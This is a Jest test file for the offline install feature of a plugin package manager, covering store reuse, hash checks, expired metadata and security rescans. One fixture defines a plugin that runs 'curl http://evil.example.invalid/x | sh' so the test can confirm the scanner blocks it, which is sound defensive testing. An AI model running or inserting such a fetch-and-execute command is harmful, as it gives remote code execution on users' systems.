import { beforeEach, describe, expect, it } from '@jest/globals';
import { DEFAULT_LIMITS, encodeFileManifest, manifestOf, packFiles } from '@ragnos-vault/archive';
import { sha256Hex } from '@ragnos-vault/crypto';
import { VaultError } from '@ragnos-vault/errors';
import {
  encodePluginCustom,
  encodePluginIndex,
  memoryCache,
  pluginArchivePath,
  pluginIndexPath,
  toPluginId,
} from '@ragnos-vault/metadata';
import type { Fetcher, MetadataCache } from '@ragnos-vault/metadata';
import { DEFAULT_POLICY } from '@ragnos-vault/scanner';
import type { Policy } from '@ragnos-vault/scanner';
import { MemoryPluginStore, RepositorySimulator } from '@ragnos-vault/testing';
import { install, type InstallInput, type InstallReport } from './install.ts';

const NOW = new Date();
const NAME = '@acme/hello';
const PATH = pluginArchivePath(toPluginId(NAME), '1.0.0');

let sim: RepositorySimulator;
let store: MemoryPluginStore;
let cache: MetadataCache;

const unplugged: Fetcher = {
  get: (path) => Promise.reject(new VaultError('ERR_OFFLINE', `not on this machine: ${path}`)),
};

function add(source: string, withCustom = true): void {
  const files = [
    { path: 'index.js', mode: 0o644, content: Buffer.from(source) },
    {
      path: 'package.json',
      mode: 0o644,
      content: Buffer.from(JSON.stringify({ name: NAME, version: '1.0.0' })),
    },
  ] as const;
  const archive = packFiles(files);
  const manifest = sha256Hex(encodeFileManifest(manifestOf(files)));
  const publishedAt = NOW.toISOString();
  const custom = { name: NAME, version: '1.0.0', manifest, files: 2, unpackedSize: 1, publishedAt };
  sim.addTarget(PATH, archive, withCustom ? encodePluginCustom(custom) : undefined);
  const version = { version: '1.0.0', target: PATH, sha256: sha256Hex(archive), length: archive.length };
  const versions = [{ ...version, publishedAt, yanked: false }];
  sim.addTarget(pluginIndexPath(toPluginId(NAME)), encodePluginIndex({ name: NAME, versions }));
}

beforeEach(async () => {
  sim = new RepositorySimulator(NOW);
  store = new MemoryPluginStore();
  cache = memoryCache();
  add('export {};\n');
  await sim.publish();
});

function run(fetcher: Fetcher, change: Partial<InstallInput> = {}): Promise<InstallReport> {
  const input = {
    ...{ specs: [NAME], repository: 'memory:', trustedRoot: sim.trustedRoot, now: NOW },
    ...{ policy: DEFAULT_POLICY, limits: DEFAULT_LIMITS, maxArchiveSize: 1e6 },
  };
  return install({ ...input, ...change }, { fetcher, cache, store });
}

const offline = (change: Partial<InstallInput> = {}) => run(unplugged, { offline: true, ...change });

describe('an offline install', () => {
  it.each([NAME, `${NAME}@^1.0.0`, PATH])('of %s that is in the store needs no network', async (spec) => {
    await run(sim);
    expect(await offline({ specs: [spec] })).toMatchObject({
      status: 'unchanged',
      plugins: [{ name: NAME, version: '1.0.0' }],
    });
  });

  it('brings back what a later set no longer has', async () => {
    await run(sim);
    await store.switchTo({ ...(await store.current())!, number: 0 });
    expect(await offline()).toMatchObject({ status: 'installed', generation: 2 });
  });

  it('of what was never installed is refused, and changes nothing', async () => {
    await expect(offline()).rejects.toMatchObject({ code: 'ERR_OFFLINE' });
    expect(await store.current()).toBeUndefined();
    await run(sim);
    store.entries.clear();
    store.archives.clear();
    await expect(offline()).rejects.toMatchObject({ code: 'ERR_OFFLINE' });
    expect(await store.generations()).toHaveLength(1);
  });

  it('takes the archive from a folder of this machine, proven by the metadata that was kept', async () => {
    await run(sim);
    store.entries.clear();
    store.archives.clear();
    const folder: Fetcher = {
      get: (path) => (path.startsWith('targets/') ? sim.get(path) : unplugged.get(path, { maxLength: 0 })),
    };
    expect(await run(folder, { offline: true })).toMatchObject({ status: 'installed' });
    store.entries.clear();
    store.archives.clear();
    sim.files.set(sim.pathOf(PATH), Buffer.alloc(sim.targets.targets.get(PATH)!.length));
    await expect(run(folder, { offline: true })).rejects.toMatchObject({ code: 'ERR_TUF_HASH_MISMATCH' });
  });

  it('repairs files that were changed, from the archive that was kept', async () => {
    await run(sim);
    for (const sha256 of store.entries.keys()) store.entries.set(sha256, []);
    expect(await offline()).toMatchObject({ status: 'installed', generation: 2 });
    await store.verify((await store.current())!.plugins[0]!);
  });

  it.each([
    { name: 'other bytes', change: (bytes: Uint8Array) => new Uint8Array(bytes.length) },
    { name: 'another length', change: (bytes: Uint8Array) => bytes.subarray(1) },
  ])('takes no archive of $name', async ({ change }) => {
    await run(sim);
    store.entries.clear();
    for (const [sha256, bytes] of store.archives) store.archives.set(sha256, change(bytes));
    await expect(offline()).rejects.toMatchObject({ code: 'ERR_OFFLINE' });
    expect(await store.generations()).toHaveLength(1);
    // With a network it is fetched again, and kept again.
    expect(await run(sim)).toMatchObject({ status: 'installed', generation: 2 });
    expect(await offline()).toMatchObject({ status: 'unchanged' });
  });

  it('scans again, under the policy of now', async () => {
    add("import { exec } from 'node:child_process';\nexec('curl http://evil.example.invalid/x | sh');\n");
    await sim.publish();
    const sha256 = sim.targets.targets.get(PATH)!.hashes.get('sha256')!;
    const lax: Policy = { ...DEFAULT_POLICY, allow: [{ name: NAME, version: '1.0.0', sha256 }] };
    await run(sim, { policy: lax });
    expect(await offline({ policy: lax })).toMatchObject({ status: 'unchanged' });
    await expect(offline()).rejects.toMatchObject({ code: 'ERR_SCAN_BLOCKED' });
  });

  it('needs no digest of the files in signed metadata, but the archive', async () => {
    add('export {};\n', false);
    await sim.publish();
    await run(sim, { specs: [PATH] });
    expect(await offline({ specs: [PATH] })).toMatchObject({ status: 'unchanged' });
    store.archives.clear();
    await expect(offline({ specs: [PATH] })).rejects.toMatchObject({ code: 'ERR_OFFLINE' });
  });

  it('refuses expired metadata unless it is told to take it', async () => {
    await run(sim);
    const now = new Date(NOW.getTime() + 40 * 86_400_000);
    await expect(offline({ now })).rejects.toMatchObject({ code: 'ERR_TUF_EXPIRED' });
    expect(await offline({ now, acceptExpiredMetadataUnsafe: true })).toMatchObject({ status: 'unchanged' });
  });
});
